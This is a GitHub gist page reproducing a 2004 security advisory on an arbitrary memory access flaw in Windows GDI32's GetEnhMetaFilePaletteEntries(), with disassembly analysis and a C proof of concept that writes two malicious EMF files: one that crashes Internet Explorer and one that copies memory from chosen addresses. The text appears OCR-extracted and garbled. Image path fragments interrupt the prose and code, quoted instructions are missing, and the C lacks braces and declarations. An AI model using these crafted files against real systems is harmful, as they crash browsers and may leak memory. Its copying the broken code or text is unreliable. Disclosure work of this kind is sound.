Skip to content

Instantly share code, notes, and snippets.

Created Oct 7, 2019
What would you like to do?
Enhanced Meta File arbitrary memory access vulnerability - proof of concept
/* ---
* Enhanced MetaFile arbitrary memory access vulnerability
* Revision 0.1, Yorick Koster, November 5th, 2004
* ---
* Summary:
* ---
* An memory access flaw has been discovered in the
* GetEnhMetaFilePaletteEntries() [1] function. This flaw can be used to crash
* programs that call this function. Furthermore, it is also possible to copy
* arbitrary parts of memory into a buffer that is passed to the
* GetEnhMetaFilePaletteEntries() function (lppe).
* This function is called from within mshtml.dll and is used by Windows
* Explorer and Internet Explorer. The buffer overflow can be trigger using the
* view -> thumbnails option from the Explorer menu or it can be trigger using
* the IMG tag in an HTML page.
* This issue has been tested on fully patched (October 2004) Windows 2000 SP4
* running Internet Explorer 6.0 SP1.
* ---
* Details:
* ---
* Whenever (Internet) Explorer has to render an EMF file, it loads the file
* into memory. The EMF file is referenced by a handle. This handle is used to
* in several MetaFile functions including GetEnhMetaFilePaletteEntries(). This
* function is called from within mshtml.dll. The following dump, which has been
* taken using OllyDbg attached to Internet Explorer running on Windows 2000
* SP4, shows how this function is called:
* 637CBCF8 . 8D43 60 LEA EAX,DWORD PTR DS:[EBX+60]
* 637CBCFB . 50 PUSH EAX
* 637CBCFC . BE 00010000 MOV ESI,100
* 637CBD01 . 56 PUSH ESI
* 637CBD02 . FF75 60 PUSH DWORD PTR SS:[EBP+60]
* 637CBD05 . FF15 54105863 CALL DWORD PTR DS:[<&GDI32.GetEnhMetaFilePaletteEntries>]
* First, the address of the buffer that is used to store thepalette
* information is loaded into EAX and pushed on the stack. This buffer is a
* fixed size. Then 100h (256) is pushed on the stack, this value specifies
* the maximum number of palette entries that can be stored in the buffer.
* Finally, the handle to the EMF file, which was just loaded into memory is
* pushed onto the stack and the GetEnhMetaFilePaletteEntries() function is
* called.
* The GetEnhMetaFilePaletteEntries() funcion is located in GDI32.dll. This
* function is located at address 77F68CC7h in Internet Explorer (Windows 2000).
* The function first performs some basic verification on its parameters.
* A pointer to theEMF fike is loaded into ECX using the following instruction:
* After this the nPalEntries (ECX + 44h) is compared with the maximum number of
* palette entries that was supplied to the GetEnhMetaFilePaletteEntries()
* function. If nPalEntries is greater than the maximum number of palette
* entries (256), then this number is used when copying the palette entries into
* the buffer. Thus the maximum number of palette entries is allways limited to
* 256. This can be observed in the following piece of code:
* 77F68CF3 8B41 44 MOV EAX,DWORD PTR DS:[ECX+44]
* 77F68CF6 394424 10 CMP DWORD PTR SS:[ESP+10],EAX
* 77F68CFA 73 04 JNB SHORTGDI32.77F68D00
* 77F68CFC 8B4424 10 MOV EAX,DWORD PTR SS:[ESP+10]
* The GetEnhMetaFilePaletteEntries() function then tries to determine the
* location of the palette entries. First, the end of the EMF file is calculated
* by adding the value of nBytes (ECX + 30h) to the EMF pointer (ECX):
* 77F68D00 8B51 30 MOV EDX,DWORD PTR DS:[ECX+30]
* 77F68D03 03D1 ADD EDX,ECX
* The last 4 bytes of the EMF file (EDX - 4h) are then substracted from the end
* of the EMF file (EDX). This value is used as the start of the palette entries.
* The function tries to store the value from EDX + Ch in ESI. This address is
* determined from the EMF file and can thus be set to any value. If EDX + Ch
* points to an invalid address, an access violation will occur, crashing the
* program that called GetEnhMetaFilePaletteEntries():
* The function continues when ECX + Ch points to a valid address. The value at
* this address is stored and the end of the EMF file (EDX) is added to ESI.
* The address in ESI is used to copy upto 256 palette entries into the buffer
* that was supplied to the GetEnhMetaFilePaletteEntries() function (EDI). By
* carefully crafting and EMF file, it is possible to load any address into ESI
* and cause the data located at this address to be copied into the supplied
* buffer.
* 77F68D0D 03F2 ADD ESI,EDX
* If an attacker can somehow manage to retrieve this data, for example when the
* user saves the image and the palette entries are also stored in this image,
* it may be possible to obtained sensitive information from the target's
* memory. Note that the attacker als has to find a way tocause the data to be
* send back to the attacker. This may be done automatically, or the attacker
* has to use some sort of social engineering. This scenario has not yet been
* researched and is therefore just a theoretical exploit scenario.
* ---
* Proof of concept:
* ---
* This code creates two EMF files. One EMF file triggers an access violation.
* The other EMF file demonstrates how an attacker can access arbitrary memory
* regions. This example cause the GetEnhMetaFilePaletteEntries() function to
* copy parts of the EMF header in to the palette entries buffer (lppe). While
* this isn't really a usefull example, it demonstrates how to set EDX & ESI to
* arbitrary memory addresses (this can be seen using a debugger, set break on
* address 77F68D0Fh).
* ---
* Conclusion:
* ---
* Currently, it is only possible to trigger a denial of service condition.
* However, there is a theoretical possibility, that an attacker may be able to
* retrieve sensitive information from target users.
* Crashing client applications isn't really a threat. If someone is able to
* crash Internet Explorer, this will only annoy users. Therefore, these users
* will avoid web sites that crashes their browser.
*---
* References:
* ---
* [1]
* ---
#include <sys/types.h>
#include <sys/stat.h>
#include <fcntl.h>
#include <stdio.h>
#include <windows.h>
int main(int argc, char *argv[])
int fd;
DWORD data;
// clear EMF header
ZeroMemory(&hEMF, sizeof(ENHMETAHEADER));
// default values
hEMF.nVersion = 0x10000;
// any arbitrary value will do
hEMF.nHandles = 0x1;
// Note I am lazy, everything is stored in the EMF header
/**** crash.emf, causes an access violation ****/
hEMF.nSize = sizeof(ENHMETAHEADER) + 4;
hEMF.nBytes = hEMF.nSize;
fd = open("crash.emf", O_CREAT | O_WRONLY | O_TRUNC);
if(fd < 0)
printf("Couldn't create file crash.emf!\n");
return 1;
// write the header
write(fd, &hEMF, sizeof(ENHMETAHEADER));
// trigger an access violation
data = 0x00FF0000;
write(fd, &data, sizeof(DWORD));
/**** end crash.emf ****/
/**** memcopy.emf, copy arbitray memory regions ****/
hEMF.nSize = sizeof(ENHMETAHEADER) + 1044;
hEMF.nBytes = hEMF.nSize;
// copy 256 palette entries (max)
hEMF.nPalEntries = 256;
fd = open("memcopy.emf", O_CREAT | O_WRONLY | O_TRUNC);
if(fd < 0)
printf("Couldn't create file memcopy.emf!\n");
return 1;
// write the header
write(fd, &hEMF, sizeof(ENHMETAHEADER));
// pad
data = 0xDEADCAFE;
write(fd, &data, sizeof(DWORD));
write(fd, &data, sizeof(DWORD));
write(fd, &data, sizeof(DWORD));
// * step 2 * set ESI
data = 16;
write(fd, &data, sizeof(DWORD));
// This data will get copied
data = 0x44444444;for(i = 0; i < hEMF.nPalEntries; i++)
write(fd, &data, sizeof(DWORD));
// * step 1 * set EDX
data = hEMF.nBytes -sizeof(ENHMETAHEADER);write(fd, &data, sizeof(DWORD));
/**** end memcopy.emf ****/
return 0;
Sign up for free to join this conversation on GitHub. Already have an account? Sign in to comment